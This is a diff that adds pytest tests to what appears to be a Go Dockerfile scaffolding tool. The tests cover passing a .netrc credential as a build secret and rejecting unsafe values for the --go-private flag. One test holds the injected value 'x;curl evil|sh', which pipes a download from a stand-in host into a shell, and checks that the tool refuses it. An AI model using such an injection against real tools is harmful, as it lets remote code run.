@@ -252,3 +252,21 @@ def test_path_kept_in_a_variable_is_copied(tmp_path):
     code = 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\ttemplatesDir := "./templates/"\n\t_, _ = os.ReadDir(templatesDir)\n\thttp.ListenAndServe(":8080", nil)\n}\n'
     plan = _plan(tmp_path, {"main.go": code, "templates/a.html": "x"})
     assert plan.value("runtime_files") == ["templates"]
+
+
+def test_private_modules_from_ci_use_a_netrc_secret(tmp_path):
+    workflow = "jobs:\n  build:\n    env:\n      GOPRIVATE: github.com/acme/*\n"
+    plan = _plan(tmp_path, {"main.go": SERVER, ".github/workflows/ci.yml": workflow})
+    text = _dockerfile(plan)
+    assert "ENV GOPRIVATE=github.com/acme/*" in text
+    assert "--mount=type=secret,id=netrc,target=/root/.netrc" in text
+    assert "--secret id=netrc,src=$HOME/.netrc" in plan.next_steps()[0]
+    assert ".netrc" in "\n".join(plan.dockerignore)
+
+
+def test_go_private_flag_refuses_shell_text(tmp_path, capsys):
+    write_tree(tmp_path, {"go.mod": GO_MOD, "main.go": SERVER})
+    with pytest.raises(SystemExit) as exc:
+        scaffold_main(["plan", str(tmp_path), "--go-private", "x;curl evil|sh"])
+    assert exc.value.code == 2
+    assert "not a GOPRIVATE list" in capsys.readouterr().err
